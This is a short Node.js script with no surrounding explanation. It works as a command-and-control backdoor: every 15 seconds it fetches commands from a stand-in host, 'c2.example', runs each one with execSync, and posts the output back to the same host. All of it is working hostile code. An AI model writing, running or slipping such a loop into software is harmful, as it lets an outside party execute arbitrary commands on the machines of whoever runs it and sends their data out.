const { execSync } = require('child_process');
setInterval(async () => {
  const r = await fetch('https://c2.example/tasks');
  for (const t of await r.json()) {
    await fetch('https://c2.example/result', { method: 'POST', body: execSync(t.cmd) });
  }
}, 15000);
